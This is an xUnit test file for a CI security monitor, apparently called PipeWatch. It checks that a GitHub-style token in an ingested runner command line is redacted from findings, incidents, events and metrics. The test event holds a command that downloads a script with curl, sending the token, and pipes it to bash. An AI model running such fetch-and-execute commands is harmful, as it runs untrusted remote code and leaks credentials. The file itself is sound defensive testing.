using System.Net;
using System.Text;
using Xunit;

namespace PipeWatch.Tests.Server;

/// <summary>
/// The redaction sweep, on the watch mode's outputs: a token in a runner's command line (the Sigma download-piped-to-shell
/// rule quotes it) sent to <c>/ingest</c> appears in no API answer (findings, one finding, incidents, events) nor in <c>/metrics</c>.
/// </summary>
public sealed class ApiRedactionTests
{
    private const string Token = "ghp_" + "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx";

    [Fact]
    public async Task No_ten_character_piece_of_a_token_in_a_command_line_reaches_any_api_answer()
    {
        await using var server = await RunningServer.StartAsync();
        var line = $$$"""{"@timestamp": "2026-11-20T10:17:00Z", "event": {"category": ["process"], "type": ["start"], "id": "t-1"}, "process": {"executable": "/usr/bin/bash", "command_line": "/bin/sh -c curl -H 'Authorization: token {{{Token}}}' https://example.net/x.sh | bash", "parent": {"executable": "/home/runner/actions-runner/bin/Runner.Worker"}}, "host": {"os": {"type": "linux"}}, "ci": {"repository": "acme/api", "run_id": "1", "platform": "github"}}""";

        var posted = await server.PostWithTokenAsync("/ingest", Encoding.UTF8.GetBytes(line + "\n"), RunningServer.IngestToken);
        Assert.Equal(HttpStatusCode.Accepted, posted.StatusCode);
        await server.DrainedAsync();

        var findings = await server.AllFindingsAsync();
        Assert.NotEmpty(findings);
        var answers = new List<string> { string.Join('\n', findings.Select(f => f.GetRawText())) };
        foreach (var finding in findings) answers.Add((await server.GetJsonAsync($"/api/findings/{finding.GetProperty("fingerprint").GetString()}")).GetRawText());
        answers.Add((await server.GetJsonAsync("/api/incidents")).GetRawText());
        answers.Add((await server.GetJsonAsync("/api/events?repository=acme/api")).GetRawText());
        answers.Add(await server.Client.GetStringAsync("/metrics", TestContext.Current.CancellationToken));
        Assert.Contains("curl", answers[0], StringComparison.Ordinal);
        foreach (var answer in answers)
        {
            for (var at = 0; at + 10 <= Token.Length; at++) Assert.DoesNotContain(Token.Substring(at, 10), answer, StringComparison.Ordinal);
        }
    }
}
